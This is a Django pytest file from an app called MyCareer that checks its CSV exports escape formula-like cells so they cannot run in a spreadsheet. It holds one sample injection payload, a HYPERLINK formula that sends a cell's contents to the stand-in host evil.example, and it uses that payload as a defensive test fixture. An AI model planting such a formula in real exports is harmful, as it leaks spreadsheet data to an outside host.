"""Every CSV MyCareer writes is safe to open in a spreadsheet (no formula runs)."""

import csv
import io

import pytest
from django.urls import reverse

from mycareer.bookings import selectors
from mycareer.bookings.tasks import report_csv
from mycareer.bookings.tests.factories import make_event
from mycareer.core.spreadsheets import csv_text, safe_cell
from mycareer.organisations import services

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_formula_like_text_gets_an_apostrophe_and_numbers_stay_numbers():
    assert [safe_cell(v) for v in ("=1+1", "+44 113", "-x", "@SUM(A1)", "\t=1", "\r=1")] == [
        "'=1+1",
        "'+44 113",
        "'-x",
        "'@SUM(A1)",
        "'\t=1",
        "'\r=1",
    ]
    assert [safe_cell(v) for v in ("Ada", "", None, 3, -2, 1.5, True)] == [
        "Ada",
        "",
        "",
        3,
        -2,
        1.5,
        "True",
    ]
    assert rows_of(csv_text([["=1", 7]])) == [["'=1", "7"]]


@pytest.mark.django_db
def test_the_attendance_report_csv_download_and_email_attachment_are_escaped(client, persona):
    tom = persona("operator")
    event = make_event(organiser=tom, capacity=5, title=FORMULA)
    client.force_login(tom)

    response = client.get(reverse("bookings:report_csv", args=[event.pk]))
    downloaded = rows_of(response.content.decode())
    assert downloaded[0] == ["Event", "'" + FORMULA]

    # The same figures as the employers get them, attached to their email.
    attached = rows_of(report_csv(selectors.attendance_report(event)))
    assert attached[0] == ["Event", "'" + FORMULA]


@pytest.mark.django_db
def test_the_organisation_export_is_escaped(client, persona):
    operator = persona("operator")
    services.organisation_create(by=operator, name="@Formula Holdings", confirm_duplicates=True)
    # Not the only organisation: a search that leaves none out is not an export.
    services.organisation_create(by=operator, name="Plain Trading", confirm_duplicates=True)
    client.force_login(operator)
    response = client.get(reverse("organisations:export"), {"text": "Formula"})
    text = b"".join(response.streaming_content).decode()
    names = [row[0] for row in rows_of(text)[1:]]
    assert "'@Formula Holdings" in names and "@Formula Holdings" not in names
